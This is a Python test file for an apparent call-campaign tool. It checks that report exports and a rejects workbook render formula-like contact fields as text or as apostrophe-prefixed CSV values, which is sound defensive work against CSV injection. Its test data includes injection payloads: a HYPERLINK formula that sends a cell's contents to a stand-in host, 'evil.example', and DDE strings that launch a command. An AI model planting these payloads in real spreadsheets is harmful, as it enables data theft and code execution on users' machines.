"""Contact fields that look like formulas never become live formulas in an export (CSV injection):
every XLSX sheet holds them as text, the CSV neutralises them the OWASP way. Checked by reading the
files back, as Excel would see them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
from sqlalchemy import Engine, update

from batch_dialer.campaigns.clock import ManualClock
from batch_dialer.campaigns.models import Campaign, Contact, ImportBatch, Opportunity, RejectedRow
from batch_dialer.importers.bulk_writer import Reject
from batch_dialer.importers.rejects_workbook import RejectsWorkbook
from batch_dialer.reports import export_report
from batch_dialer.reports.formula_cells import FORMULA_TRIGGERS, csv_field, looks_like_formula
from tests.reports.seed_data import NOW, Seeded

CLOCK = ManualClock(NOW)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我领奖")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _make_hostile(engine: Engine) -> None:
    with engine.begin() as conn:
        for contact_id, text in enumerate(HOSTILE, start=1):
            conn.execute(
                update(Contact.__table__).where(Contact.__table__.c.id == contact_id).values(name=text)
            )
        opportunity = Opportunity.__table__
        conn.execute(update(opportunity).where(opportunity.c.product == "宽带").values(product="=1+2"))
        conn.execute(
            update(RejectedRow.__table__).values(values={"电话": "=1+1", "备注": "@SUM(A1)"}, detail="=2")
        )
        conn.execute(update(ImportBatch.__table__).values(file_name="=evil.xlsx"))
        conn.execute(update(Campaign.__table__).where(Campaign.__table__.c.id == 1).values(name="=survey"))


def test_the_rule_and_its_csv_form() -> None:
    assert FORMULA_TRIGGERS == ("=", "+", "-", "@", "\t", "\r")
    for text in HOSTILE:
        assert looks_like_formula(text)
        assert csv_field(text) == "'" + text
    for text in ("张三", "13800138000", "a=b", "", " =1"):
        assert not looks_like_formula(text) and csv_field(text) == text
    assert csv_field(-2) == -2  # numbers are numbers, not text that looks like one


def test_xlsx_report_has_no_live_formula_in_any_sheet(
    sqlite_engine: Engine, seeded_sqlite: Seeded, tmp_path: Path
) -> None:
    _make_hostile(sqlite_engine)
    export_report(sqlite_engine, "=survey", "xlsx", tmp_path / "r.xlsx", clock=CLOCK, unmasked=True)
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    # the values are kept as the contact data had them, as text
    assert set(HOSTILE[:4]) <= seen
    assert "=1+2" in seen and "=2" in seen
    assert any("=1+1" in value for value in seen)  # the rejected row's original content


def test_csv_report_neutralises_formula_fields(
    sqlite_engine: Engine, seeded_sqlite: Seeded, tmp_path: Path
) -> None:
    _make_hostile(sqlite_engine)
    export_report(sqlite_engine, "=survey", "csv", tmp_path / "r.csv", clock=CLOCK, unmasked=True)
    raw = (tmp_path / "r.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    fields = [field for row in rows for field in row]
    for field in fields:
        assert not field.startswith(FORMULA_TRIGGERS), field
    for text in HOSTILE:
        assert "'" + text in fields
    assert "'=1+2" in fields
    # text fields are quoted, so an embedded quote or delimiter cannot end the field early
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""点我领奖"")"' in raw


def test_rejects_workbook_keeps_formula_like_values_as_text(tmp_path: Path) -> None:
    book = RejectsWorkbook(tmp_path / "r.rejects.xlsx", ["姓名", "手机号码"])
    book.add([Reject(2, "invalid_phone", "=1", {"姓名": text, "手机号码": "+86 1"}) for text in HOSTILE])
    written = book.commit()
    assert written is not None
    ws = openpyxl.load_workbook(written).active
    assert ws is not None
    names = []
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        names.append(row[4].value)
    # unchanged (the file is meant to be fixed and imported again); XML reads a lone CR as LF
    assert names == [text.replace("\r", "\n") for text in HOSTILE]
